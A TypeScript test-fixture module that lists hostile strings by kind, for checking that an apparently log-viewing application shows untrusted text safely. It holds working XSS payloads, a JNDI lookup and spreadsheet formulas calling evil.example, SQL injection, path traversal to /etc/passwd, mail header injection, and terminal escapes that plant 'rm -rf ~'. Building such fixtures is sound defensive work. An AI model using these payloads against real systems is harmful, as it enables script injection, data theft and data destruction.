/**
 * Text that strangers could have had logged: everything here is meant to become something else than
 * text somewhere. What would run says so by `__pwned` or by a dialog; what would be fetched, by the
 * host `evil.example`. A test that shows these strings looks for both.
 */

export type HostileKind =
  | "html"
  | "end of data in a page"
  | "plotly"
  | "template"
  | "markdown"
  | "link"
  | "terminal"
  | "control character"
  | "bidirectional"
  | "invisible"
  | "look-alike"
  | "combining"
  | "broken Unicode"
  | "spreadsheet"
  | "SQL"
  | "file name"
  | "object's own name"
  | "mail header"
  | "our own marks"
  | "number or date"
  | "long"
  | "megabyte";

export interface HostileString {
  kind: HostileKind;
  text: string;
}

const RUN = "window.__pwned=1;alert(1)";
const HOST = "//evil.example/x";

const HTML = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src=${HOST}></script>`,
  `<<script>${RUN}//<</script>`,
  `<script/x>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src="x"/onerror=${RUN}>`,
  `<img src=${HOST}>`,
  `<image src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math href="javascript:${RUN}">x</math>`,
  `"><script>${RUN}</script>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  "` onclick=`alert(1)`",
  `x onmouseover=${RUN}`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<style>@import url(${HOST});body{display:none}</style>`,
  `<div style="background:url(${HOST});position:fixed;inset:0">cover</div>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${HOST}">`,
  `<meta http-equiv="refresh" content="0;url=https:${HOST}">`,
  `<base href="https:${HOST}/">`,
  `<link rel=stylesheet href=${HOST}>`,
  `<form action="https:${HOST}"><button>Log in</button></form>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<p id=page-looks>{}</p>`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#x3c;script&#x3e;${RUN}&#x3c;/script&#x3e;`,
  `&amp;lt;b&amp;gt;`,
];

const ENDS = [
  `</script><script>${RUN}</script>`,
  "</ScRiPt\t>",
  "</script",
  "<!--",
  "<!--<script>",
  "-->",
  "--!><b>x",
  "]]><b>x",
  "<![CDATA[",
  `</style><script>${RUN}</script>`,
  `</textarea><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  "\\u003c/script\\u003e",
  `"}];${RUN};//`,
  `';${RUN};'`,
  "*/ alert(1) /*",
];

const PLOTLY = [
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="https:${HOST}" target="_self">x</a>`,
  "<b>bold</b>",
  "one<br>two<br />three",
  "<i>",
  "<sub>1</sub><sup>2</sup>",
  `<span style="font-size:300px;color:red">big</span>`,
  `<span style="background:url(${HOST})">x</span>`,
  "<extra></extra>",
  "<extra>%{fullData.name}</extra>",
  "%{x}",
  "%{customdata[0]}",
  "%{y:.2f}<br>%{meta}",
  "%{_xother}",
  "&#37;{x}",
  "$\\href{javascript:alert(1)}{x}$",
];

const TEMPLATES = [
  `\${${RUN}}`,
  `\${process.exit(1)}`,
  "#{7*7}",
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}",
  "{%if 1%}x{%endif%}",
  "<%= 7*7 %>",
  "<?php echo 1 ?>",
  `\${jndi:ldap://evil.example/x}`,
  `[[\${7*7}]]`,
  "*{7*7}",
  "%s%n%d%x",
  "%c%cx",
  "$&$1$`$'$$",
];

const MARKDOWN = [
  "[x](javascript:alert(1))",
  "[x](https://evil.example/x)",
  "[03](03-explore.ipynb)",
  "[x][1]",
  "[1]: https://evil.example/x",
  "![x](https://evil.example/x.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "<https://evil.example/x>",
  "<javascript:alert(1)>",
  "**bold** _it_ ~~gone~~",
  "`code`",
  "```js\nalert(1)\n```",
  "# Heading",
  "## 9. A question of my own",
  "Heading\n===",
  "- item\n- item",
  "1. first",
  "> quoted",
  "a | b | c",
  "|-|-|",
  "---",
  "***",
  "    indented",
  "a  \nb",
  "a\n\nb\n\n# c",
  "$x^2$",
  "$$\\require{html}\\href{javascript:alert(1)}{x}$$",
  "\\(\\unicode{x41}\\)",
  "\\begin{equation}1\\end{equation}",
  "[^1]",
  "https://evil.example/x",
  "www.evil.example",
  "someone@evil.example",
  ":warning:",
  "@someone #1",
  "\\",
  "&nbsp;&copy;&#0;",
];

const LINKS = [
  `javascript:${RUN}`,
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  " javascript:alert(1)",
  "javascript://%0aalert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "blob:https://evil.example/x",
  "view-source:https://evil.example",
  "//evil.example/x",
  "\\\\evil.example\\x",
  "https:evil.example",
  "mailto:a@evil.example?bcc=b@evil.example",
  "#page-claim-1",
  "?x=1#cell-question-1",
];

const ESC = "\u001b";
const TERMINAL = [
  `${ESC}[31mred${ESC}[0m`,
  `${ESC}[2J${ESC}[H`,
  `${ESC}[1A${ESC}[2Kgone`,
  `${ESC}[?1049h`,
  `${ESC}[6n`,
  `${ESC}]0;title\u0007`,
  `${ESC}]2;title${ESC}\\`,
  `${ESC}]8;;https://evil.example/x${ESC}\\link${ESC}]8;;${ESC}\\`,
  `${ESC}]52;c;cm0gLXJmIH4=\u0007`,
  `${ESC}]1337;File=inline=1:AAAA\u0007`,
  `${ESC}P+q544e${ESC}\\`,
  `${ESC}c`,
  `${ESC}(0lqk`,
  `${ESC}[200~rm -rf ~${ESC}[201~`,
  "\u009b31mred",
  "\u009d0;title\u009c",
  "\u0090q\u009c",
  "bell\u0007",
  "abc\b\b\bxyz",
  "100 %\rdone",
  "a\r\nb",
  "line\nfeed",
  "\ttab",
  "form\ffeed",
  "vertical\vtab",
  "del\u007f",
  "next\u0085line",
];

const CONTROLS = [
  "\0",
  "a\0b",
  "index.html\0.png",
  ...[0x01, 0x04, 0x0e, 0x11, 0x13, 0x1a, 0x1c, 0x1f, 0x80, 0x84, 0x8d, 0x9f].map(
    (code) => `c${String.fromCharCode(code)}x`,
  ),
];

const BIDIRECTIONAL = [
  ...["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068"].map(
    (mark) => `abc${mark}fdp.exe`,
  ),
  "\u202e\u2066abc\u2069",
  "\u202c\u2069\u2069",
  "\u200elrm\u200frlm\u061calm",
  "\u05e9\u05dc\u05d5\u05dd/abc",
  "123/\u0627\u0644\u0639\u0631\u0628\u064a\u0629/456",
  "\u206a\u206b\u206c\u206d\u206e\u206f",
];

const INVISIBLE = [
  "a\u200bb",
  "adm\u200din",
  "adm\u200cin",
  "ab\ufe0fc",
  "a\u{e0101}b",
  "\u2060joined",
  "\ufeffbom",
  "soft\u00adhyphen",
  "\u034fgrapheme",
  "\u3164filler",
  "\u115f\u1160\uffa0",
  "\u180emongol",
  "\u{e0001}\u{e0041}\u{e0042}tags",
  "\u17b4khmer",
  "sep\u2028line\u2029paragraph",
  "\u00a0",
  "a\u00a0b",
  "\u2800",
  "\u3000wide",
  " ",
  "  two  ",
  "\ufff9a\ufffab\ufffb",
  "\u{1d173}music",
];

const LOOK_ALIKES = [
  "j\u0430vascript-i",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  "\uff0e\uff0e/\uff0e\uff0e/etc/passwd",
  "\u2024\u2024/x",
  "admin\u2044login",
  "\u0131ndex",
  "STRA\u1e9eE",
  "\ufb01le",
  "\u212aelvin",
  "\u02bcquoted\u02bc",
];

const COMBINING = [
  "e\u0301cole",
  `Z${"\u0300\u0317\u0488".repeat(20)}algo`,
  "\u0301",
  `a${"\u0e49".repeat(60)}`,
  "n\u20e3\u20dd\u20e0",
  "\u0f40\u0fb2\u0fb3\u0fb4\u0fb5\u0fb6\u0fb7\u0fb8",
  `${"\u{1f468}\u200d".repeat(30)}\u{1f468}`,
];

const BROKEN = ["\ud800", "a\udc00b", "\udfff\ud800", "\ud83d", "\ufffe\uffff", "\u{10ffff}\ue000"];

const SPREADSHEET = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/x";"x")',
  '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  "+1+1",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\uff1d1+1",
  "'=1+1",
  'a","=1+1","b',
  'a"\n=1+1,"b',
  "a;=1+1",
  "%0A=1+1",
];

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE logs; --",
  '" OR ""="',
  "1 UNION SELECT 1,2,3",
  "1; WAITFOR DELAY '0:0:5'",
  "sleep(5)#",
  "\\'; --",
  "`logs`; --",
];

const FILE_NAMES = [
  "../../x",
  "..\\..\\x",
  "/etc/passwd",
  "....//....//etc/passwd",
  "%2e%2e%2fetc%2fpasswd",
  "%252e%252e%252f",
  "..%c0%af..%c0%afetc/passwd",
  "CON",
  "aux.txt",
  "NUL",
  "file:///etc/passwd",
  "\\\\server\\share",
  "C:\\Windows\\win.ini",
  ".",
  "..",
  "/",
  "~root",
  "-rf",
  "--help",
  ".env",
  "a/./b//c/",
  "%",
  "%zz%",
  "%00",
  "%0d%0aSet-Cookie:x=1",
];

const OWN_NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "tostring",
  "valueOf",
  "hasOwnProperty",
  "isPrototypeOf",
  "__defineGetter__",
  "__lookupSetter__",
  "constructor/prototype/x",
  "__proto__/__proto__",
  "then",
  "length",
  "toJSON",
  "undefined",
  "null",
  "none",
];

const MAIL = [
  "x\r\nBcc: b@evil.example",
  "x\nSubject: Something else",
  "Subject: Something else",
  "%0d%0abcc:b@evil.example",
  "&bcc=b@evil.example&body=x",
  "?bcc=b@evil.example",
  "\r\n.\r\nMAIL FROM:<a@evil.example>",
  "-- \nThe board",
  "From someone@evil.example",
];

const OUR_MARKS = [
  "\u2060(x\u2060)",
  "\ue000x\ue001",
  "%EE%80%80x%EE%80%81",
  "abc\u2026 (6 characters)",
  `${"x".repeat(310)}\u2026 (5 characters)`,
  "\\u001b[31m",
  "a (2)",
  "\u2026/lesson",
  "constr\u200bu\u200bctor",
  "999,999 requests for pages",
  "**900** requests",
  "> **Synthetic sample.** Nobody is real.",
  "Answer. All is well",
  `<a class="claim" href="#page-claim-1">7</a>`,
  `<section class="slide">x</section>`,
  `<aside class="notes">x</aside>`,
  "2 problems with claims, first in cell 1",
  "curriculum-logs-figure-1-1",
  "page-plotly",
  "-1",
  "no cohort",
  "Staff",
];

const NUMBERS = [
  "7",
  "2021",
  "1,234.5 %",
  "1e309",
  "-0",
  "0x10",
  "NaN",
  "Infinity",
  "2020-01-01",
  "2020-01-01 12:00:00",
  "2020-99-99",
  "true",
  "9007199254740993",
  "\u0661\u0662\u0663",
];

const LONG = [
  "w".repeat(400),
  "\u5b57".repeat(400),
  `${"a-".repeat(2_000)}z`,
  "/".repeat(3_000),
  `${"%25".repeat(1_500)}2e`,
  `${"<b>".repeat(700)}x`,
  `${"\u{1f600}".repeat(1_200)}`,
];

/** A little less than the longest line that is read, which is 1 MiB with the other fields. */
const MEGABYTE = 1_048_576 - 600;
const filled = (unit: string, end = "") =>
  unit.repeat(Math.floor((MEGABYTE - Buffer.byteLength(end)) / Buffer.byteLength(unit))) + end;
const MEGABYTES = [
  filled("w", "one"),
  filled("w", "two"),
  filled("a/"),
  filled("<", `script>${RUN}</script>`),
  filled("\u0301"),
  filled("%25", "2e"),
];

const KINDS: [HostileKind, readonly string[]][] = [
  ["html", HTML],
  ["end of data in a page", ENDS],
  ["plotly", PLOTLY],
  ["template", TEMPLATES],
  ["markdown", MARKDOWN],
  ["link", LINKS],
  ["terminal", TERMINAL],
  ["control character", CONTROLS],
  ["bidirectional", BIDIRECTIONAL],
  ["invisible", INVISIBLE],
  ["look-alike", LOOK_ALIKES],
  ["combining", COMBINING],
  ["broken Unicode", BROKEN],
  ["spreadsheet", SPREADSHEET],
  ["SQL", SQL],
  ["file name", FILE_NAMES],
  ["object's own name", OWN_NAMES],
  ["mail header", MAIL],
  ["our own marks", OUR_MARKS],
  ["number or date", NUMBERS],
  ["long", LONG],
  ["megabyte", MEGABYTES],
];

/** Every string once, by kind. */
export const HOSTILE_STRINGS: readonly HostileString[] = KINDS.flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind, text })),
);

/** Those of some kinds; all but the longest where none is named. */
export function hostileStrings(...kinds: HostileKind[]): string[] {
  return HOSTILE_STRINGS.filter(({ kind }) =>
    kinds.length > 0 ? kinds.includes(kind) : kind !== "megabyte",
  ).map(({ text }) => text);
}

/** What is no UTF-8: cut short, overlong, a surrogate, beyond the last character, Latin-1. */
export const HOSTILE_BYTES: readonly Buffer[] = [
  [0xc3],
  [0xe2, 0x82],
  [0xf0, 0x9f, 0x98],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xf4, 0x90, 0x80, 0x80],
  [0xff, 0xfe],
  [0x63, 0x61, 0x66, 0xe9],
  [0x80, 0xbf],
].map((bytes) => Buffer.from(bytes));

/** A string as it comes out of Polars and out of files: lone surrogates are no UTF-8. */
export const asStored = (text: string): string => Buffer.from(text).toString();

/** The same as a path is read: what is beyond 8 KiB is cut, and counted. */
export function asPathRead(text: string): string {
  const bytes = Buffer.from(text);
  if (bytes.length <= 8192) return asStored(text);
  // A character that is cut in two is none.
  const kept = bytes.toString("utf8", 0, 8192).replace(/\ufffd+$/, "");
  const cut = asStored(text).length - kept.length;
  return `${kept}… (${cut.toLocaleString("en-US")} character${cut === 1 ? "" : "s"} cut)`;
}

/**
 * Whether what is shown is the string, invisible characters written out, whole or visibly cut:
 * read back, it has to be the same. Spaces may be others, and those at the ends may be missing.
 */
export function isShown(shown: string, text: string): boolean {
  // What never was in a file or in Polars may still have its lone surrogates.
  if (readBack(shown) === readBack(text)) return true;
  const stored = readBack(asStored(text));
  const cut = /^(.*)… \(([\d,]+) characters\)$/s.exec(shown);
  if (readBack(shown) === stored) return true;
  if (cut === null || Number(cut[2]?.replaceAll(",", "")) !== asStored(text).length) return false;
  return stored.startsWith(readBack(cut[1] ?? "")) && !/\p{Cc}|\p{Cs}|\u202e/u.test(shown);
}

/** Those of some strings that are not among what is shown, each whole or visibly cut. */
export function notShown(texts: readonly string[], shown: readonly string[]): string[] {
  const whole = new Set(shown.map(readBack));
  const cut = shown.filter((one) => one.endsWith(" characters)"));
  return texts.filter(
    (text) =>
      !whole.has(readBack(text)) &&
      !whole.has(readBack(asStored(text))) &&
      !cut.some((one) => isShown(one, text)),
  );
}

const NAMED: Record<string, string> = { n: "\n", r: "\r", t: "\t" };

function readBack(text: string): string {
  return text
    .replace(/\\u(?:\{([\da-f]+)\}|([\da-f]{4}))|\\([nrt])/g, (_, long, short, name) =>
      name ? (NAMED[name] as string) : String.fromCodePoint(Number.parseInt(long ?? short, 16)),
    )
    .replace(/\s/g, " ")
    .trim();
}
